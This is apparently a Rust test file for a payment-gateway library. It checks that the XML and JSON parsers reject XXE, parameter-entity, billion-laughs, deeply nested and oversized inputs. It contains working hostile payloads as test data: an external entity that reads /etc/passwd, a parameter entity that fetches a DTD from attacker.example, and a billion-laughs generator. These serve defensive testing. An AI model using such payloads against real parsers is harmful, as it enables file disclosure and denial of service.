//! Hostile input: a DOCTYPE, an external entity or a billion-laughs document is refused
//! quickly with bounded memory by every XML reader; oversized bodies are refused before any
//! parsing by every parser of the three gateways, `verify_callback`, `parse_redirect` and
//! `parse_xmlout`; deep nesting and huge element counts are capped.

use std::time::{Duration, Instant};

use azpay_core::{
    epoint, kapital, twec, Amount, Currency, Operation, ResponseError, MAX_BODY_BYTES,
};
use base64::Engine as _;

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!(
        "{}/tests/fixtures/twec/{name}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap()
}

const EXTERNAL: &[u8] = br#"<?xml version="1.0"?><!DOCTYPE TKKPG [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><TKKPG><Response><Operation>GetOrderStatus</Operation><Status>00</Status><Order><OrderID>&xxe;</OrderID><OrderStatus>APPROVED</OrderStatus></Order></Response></TKKPG>"#;
const PARAMETER: &[u8] = br#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><TKKPG/>"#;
const UNDECLARED: &[u8] = b"<TKKPG><Response><Operation>GetOrderStatus</Operation><Status>00</Status><Order><OrderID>&lol9;</OrderID><OrderStatus>APPROVED</OrderStatus></Order></Response></TKKPG>";

fn billion_laughs() -> Vec<u8> {
    let mut doc =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", i - 1)
        };
        doc.push_str(&format!(
            "<!ENTITY lol{i} \"{}\">\n",
            format!("&{prev};").repeat(10)
        ));
    }
    doc.push_str("]>\n<Message><OrderID>&lol9;</OrderID><SessionId>S</SessionId><OrderStatus>APPROVED</OrderStatus></Message>");
    doc.into_bytes()
}

fn hostile_documents() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        (
            "fixture billion laughs",
            fixture("doctype_billion_laughs.xml"),
        ),
        (
            "fixture external entity",
            fixture("doctype_external_entity.xml"),
        ),
        ("billion laughs", billion_laughs()),
        ("external entity", EXTERNAL.to_vec()),
        ("parameter entity", PARAMETER.to_vec()),
        ("undeclared entity", UNDECLARED.to_vec()),
    ]
}

fn twec_config() -> twec::Config {
    twec::Config::kapital_test("E1000010")
}

/// Every TWEC parser on one body; each must refuse it.
fn all_twec_refuse(what: &str, body: &[u8]) {
    let c = twec_config();
    let a = Amount::from_minor(100, Currency::AZN);
    let r = || http::Response::new(body.to_vec());
    assert!(
        twec::CreateOrder::purchase(a, "d")
            .parse_response(&c, r())
            .is_err(),
        "{what}"
    );
    assert!(
        twec::GetOrderStatus::new("1", "S")
            .parse_response(&c, r())
            .is_err(),
        "{what}"
    );
    assert!(
        twec::GetOrderInformation::new("1", "S")
            .parse_response(&c, r())
            .is_err(),
        "{what}"
    );
    assert!(
        twec::Completion::new("1", "S", a)
            .parse_response(&c, r())
            .is_err(),
        "{what}"
    );
    assert!(
        twec::Reverse::new("1", "S")
            .parse_response(&c, r())
            .is_err(),
        "{what}"
    );
    assert!(
        twec::Refund::new("1", "S", a)
            .parse_response(&c, r())
            .is_err(),
        "{what}"
    );
    assert!(twec::parse_xmlout(body).is_err(), "{what}");
    // Also as the browser delivers it: form-encoded and base64'd.
    let form = format!(
        "xmlmsg={}",
        form_urlencoded::byte_serialize(body).collect::<String>()
    );
    assert!(
        twec::parse_xmlout(form.as_bytes()).is_err(),
        "{what} (form)"
    );
    let b64 = base64::engine::general_purpose::STANDARD.encode(body);
    assert!(
        twec::parse_xmlout(b64.as_bytes()).is_err(),
        "{what} (base64)"
    );
}

#[test]
fn doctype_and_entities_are_refused_quickly() {
    for (what, doc) in hostile_documents() {
        let start = Instant::now();
        all_twec_refuse(what, &doc);
        assert!(
            start.elapsed() < Duration::from_secs(2),
            "{what} took {:?}",
            start.elapsed()
        );
    }
    // The refusal says why, and never echoes an expansion.
    let e = twec::parse_xmlout(&billion_laughs()).unwrap_err();
    assert!(e.to_string().contains("DOCTYPE"), "{e}");
    assert!(!format!("{e:?}").contains("lollollol"));
}

#[test]
fn a_benign_doctype_is_refused_too() {
    // No DOCTYPE at all is accepted, not even an empty one: the rule is simple to audit.
    let doc = b"<!DOCTYPE TKKPG><TKKPG><Response><Operation>GetOrderStatus</Operation><Status>00</Status><Order><OrderID>1</OrderID><OrderStatus>APPROVED</OrderStatus></Order></Response></TKKPG>";
    all_twec_refuse("empty DOCTYPE", doc);
    let without = &doc[b"<!DOCTYPE TKKPG>".len()..];
    assert!(twec::GetOrderStatus::new("1", "S")
        .parse_response(&twec_config(), http::Response::new(without.to_vec()))
        .is_ok());
}

#[test]
fn deep_nesting_and_many_elements_are_capped() {
    for doc in [
        "<a>".repeat(200_000),
        format!("<TKKPG>{}</TKKPG>", "<x/>".repeat(100_000)),
        format!(
            "<Message><OrderID>1</OrderID>{}</Message>",
            "<x/>".repeat(30_000)
        ),
    ] {
        let start = Instant::now();
        all_twec_refuse("nesting/count", doc.as_bytes());
        assert!(
            start.elapsed() < Duration::from_secs(5),
            "took {:?}",
            start.elapsed()
        );
    }
}

fn too_large<A: std::fmt::Debug>(what: &str, r: Result<impl std::fmt::Debug, ResponseError<A>>) {
    match r {
        Err(ResponseError::TooLarge { limit, actual }) => {
            assert_eq!(limit, MAX_BODY_BYTES, "{what}");
            assert!(actual > MAX_BODY_BYTES, "{what}");
        }
        other => panic!("{what}: expected TooLarge, got {:?}", other.map(|_| ())),
    }
}

#[test]
fn oversized_bodies_are_refused_by_every_parser() {
    let start = Instant::now();
    // Valid-looking bodies padded past the limit with whitespace, so only the size is wrong.
    let pad = |body: &[u8]| {
        let mut v = body.to_vec();
        v.resize(MAX_BODY_BYTES + 1, b' ');
        v
    };
    let a = Amount::from_minor(100, Currency::AZN);
    let tw = pad(&fixture("resp_get_order_status.xml"));
    let tc = twec_config();
    let r = |b: &Vec<u8>| http::Response::new(b.clone());
    too_large(
        "twec create",
        twec::CreateOrder::purchase(a, "d").parse_response(&tc, r(&tw)),
    );
    too_large(
        "twec status",
        twec::GetOrderStatus::new("1", "S").parse_response(&tc, r(&tw)),
    );
    too_large(
        "twec info",
        twec::GetOrderInformation::new("1", "S").parse_response(&tc, r(&tw)),
    );
    too_large(
        "twec completion",
        twec::Completion::new("1", "S", a).parse_response(&tc, r(&tw)),
    );
    too_large(
        "twec reverse",
        twec::Reverse::new("1", "S").parse_response(&tc, r(&tw)),
    );
    too_large(
        "twec refund",
        twec::Refund::new("1", "S", a).parse_response(&tc, r(&tw)),
    );
    too_large("twec xmlout", twec::parse_xmlout(&tw));
    too_large(
        "twec xmlout form",
        twec::parse_xmlout(&pad(b"xmlmsg=%3CMessage%2F%3E")),
    );

    let ec = epoint::Config::new("i000000001", "k");
    let ej = pad(br#"{"status":"success","transaction":"t","redirect_url":"https://r"}"#);
    too_large(
        "epoint pay",
        epoint::Pay::new(a, "1").parse_response(&ec, r(&ej)),
    );
    too_large(
        "epoint status",
        epoint::GetStatus::by_transaction("t").parse_response(&ec, r(&ej)),
    );
    too_large(
        "epoint saved card",
        epoint::PayWithSavedCard::new("c", a, "1").parse_response(&ec, r(&ej)),
    );
    too_large(
        "epoint refund",
        epoint::Refund::new("t", Currency::AZN).parse_response(&ec, r(&ej)),
    );
    too_large(
        "epoint card status",
        epoint::GetCardStatus::new("c").parse_response(&ec, r(&ej)),
    );
    too_large(
        "epoint heartbeat",
        epoint::Heartbeat.parse_response(&ec, r(&ej)),
    );
    too_large(
        "epoint wallets",
        epoint::WalletStatus.parse_response(&ec, r(&ej)),
    );
    let cb = pad(&epoint::sign_callback(
        &ec,
        &serde_json::json!({"status": "success"}),
    ));
    too_large("epoint callback", epoint::verify_callback(&ec, &cb));

    let kc = kapital::Config::new("u", "p");
    let kj = pad(br#"{"order":{"id":1,"status":"FullyPaid"}}"#);
    too_large(
        "kapital get order",
        kapital::GetOrder::new(1).parse_response(&kc, r(&kj)),
    );
    too_large(
        "kapital create",
        kapital::CreateOrder::purchase(a).parse_response(&kc, r(&kj)),
    );
    too_large(
        "kapital exec",
        kapital::ExecTran::clearing(1).parse_response(&kc, r(&kj)),
    );
    too_large(
        "kapital src token",
        kapital::SetSrcToken::stored_card(1, "p", 2).parse_response(&kc, r(&kj)),
    );

    // The redirect has its own, smaller limit.
    let long = format!(
        "?ID=1&STATUS=FullyPaid&pad={}",
        "x".repeat(kapital::MAX_REDIRECT_BYTES)
    );
    assert_eq!(
        kapital::parse_redirect(&long),
        Err(kapital::RedirectError::TooLong)
    );
    assert!(start.elapsed() < Duration::from_secs(10));
}
